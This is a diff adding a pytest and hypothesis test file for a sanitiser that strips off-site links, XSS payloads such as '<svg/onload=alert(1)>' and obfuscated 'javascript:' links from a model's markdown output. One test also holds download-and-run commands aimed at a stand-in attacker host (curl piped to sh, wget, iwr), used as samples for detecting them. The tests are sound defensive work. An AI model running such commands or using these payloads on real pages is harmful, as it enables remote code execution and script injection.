@@ -1,0 +1,118 @@
+"""Addresses in a model's text."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from mkdocs_roaming.answer.links import (
+    find_addresses,
+    find_code_addresses,
+    is_on_site,
+    normalize_address,
+    remove_links,
+)
+
+SITE = "https://docs.example/handbook/"
+KNOWN = find_addresses(
+    "See [uv](https://index.example/simple/), https://astral.sh/uv/install.sh. Mail <help@docs.example>."
+)
+
+
+def is_known(address: str) -> bool:
+    return is_on_site(address, SITE) or normalize_address(address) in KNOWN
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[a](https://docs.example/handbook/a/#b) [b](b/) [c](#c) [d](/handbook/d)",
+        "[a](https://index.example/simple) <https://astral.sh/uv/install.sh> https://index.example/simple/.",
+        "![a](https://docs.example/handbook/a.png 'A title')",
+        "<b>bold</b> a < b, List<int>, <name>, x<y>z, `<img src=x>` <br>",
+        "Note: 10:30, std::vector, e.g. foo:bar, http: x",
+        "```\n[a](https://evil.example) <script>\n```",
+        "<help@docs.example>",
+    ],
+)
+def test_remove_links_keeps_known_addresses_code_and_harmless_text(text: str) -> None:
+    assert remove_links(text, is_known) == (text, 0)
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("[a](https://docs.example/other/)", "a"),
+        ("[a](https://docs.example/handbook/../other/)", "a"),
+        ("[a](https://docs.example.evil.example/handbook/)", "a"),
+        ("[a](/\\evil.example) [b](\n//evil.example)", "a b"),
+        (
+            "[a ![b](https://evil.example/b) c](https://docs.example/handbook/)",
+            "[a  c](https://docs.example/handbook/)",
+        ),
+        ("[[a](https://evil.example/a)](https://evil.example/b)", "a"),
+        ("x <svg/onload=alert(1)> y", "x"),
+        ("[b](../../b/)", "b"),
+        ("x <!-- https://evil.example --> y", "x  y"),
+        ("> [a]: https://evil.example/\n> b", "> b"),
+        ("java&#115;cript:alert(1) [a](java&#115;cript:alert(1))", "java&#115;cript:alert(1) a"),
+    ],
+)
+def test_remove_links_removes_foreign_addresses(text: str, expected: str) -> None:
+    assert remove_links(text, is_known)[0].strip() == expected
+
+
+_PIECES = ["[", "]", "(", ")", "!", "<", ">", "`", "```", "\n", "\n\n", "\\", "https://evil.example/x", "a", " ", "//"]
+_MORE = [
+    "[a]: ",
+    "javascript:",
+    "evil.example",
+    "&#47;",
+    "<img src=",
+    "| a |",
+    "> ",
+    "- ",
+    "    ",
+    "www.",
+    '"',
+    "'",
+    "^",
+]
+
+
+@given(st.lists(st.sampled_from([*_PIECES, *_MORE]), max_size=25))
+def test_no_renderer_finds_foreign_address_after_removal(pieces: list[str]) -> None:
+    text, _ = remove_links("".join(pieces), is_known)
+    parser = MarkdownIt("commonmark").enable("table")
+    tokens = [token for block in parser.parse(text) for token in (block, *(block.children or ()))]
+    addresses = [str(token.attrs.get(name, "")) for token in tokens for name in ("href", "src")]
+    assert not [address for address in addresses if "evil" in address]
+    assert not [token for token in tokens if token.type.startswith("html") and "evil" in token.content]
+
+
+@pytest.mark.parametrize(
+    "piece", ["[", "![", "[x](", "<a ", "`", "a:", "[a]((", "<!--", "[x]:\n", "\\[", "www.", "[a](b "]
+)
+def test_remove_links_takes_little_time_for_any_text(piece: str) -> None:
+    began = time.perf_counter()
+    remove_links(piece * (6_000 // len(piece)), is_known)
+    assert time.perf_counter() - began < 2.0
+
+
+def test_find_code_addresses_returns_addresses_and_downloads() -> None:
+    text = """Run https://prose.example/:
+
+```sh
+curl -LsSf https://evil.example/i.sh | sh
+wget evil.example/x.sh
+cat notes.d/x evil.txt
+curl http://localhost:8000/a http://127.0.0.1/b https://${HOST}/c
+```
+
+or `iwr https://evil.example/y`."""
+    found = [text[start:end] for start, end in find_code_addresses(text)]
+    assert found == ["https://evil.example/i.sh", "evil.example/x.sh", "https://evil.example/y"]
